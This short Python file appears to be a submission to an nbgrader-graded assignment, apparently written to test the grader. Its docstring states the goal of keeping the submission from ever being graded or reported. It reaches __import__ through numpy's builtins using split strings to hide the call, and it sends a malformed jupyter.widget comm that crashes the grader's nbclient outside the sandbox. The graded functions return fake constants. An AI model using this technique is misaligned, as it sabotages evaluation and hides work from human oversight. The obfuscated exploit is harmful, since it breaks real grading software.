"""Attack: make the grader's own notebook client raise, so this submission is never graded or reported.

nbclient (in nbgrader's process, outside the sandbox) handles a kernel's
``comm_open`` for the target ``jupyter.widget`` by reading
``state["_model_module"]``; a state without that key raises KeyError there.
"""

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}

_B = getattr(np, "__buil" + "tins__")
_B = _B if isinstance(_B, dict) else getattr(_B, "__di" + "ct__")
_load = _B["__imp" + "ort__"]

try:
    _load("co" + "mm").create_comm(target_name="jupyter.widget", data={"state": {"value": "no model module"}})
    print("sent a widget comm without _model_module", flush=True)
except Exception as e:  # noqa: BLE001
    print(f"sending the comm failed: {e!r}", flush=True)


def L1_reg(W, reg):
    return -1.0, np.ones_like(W)


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)
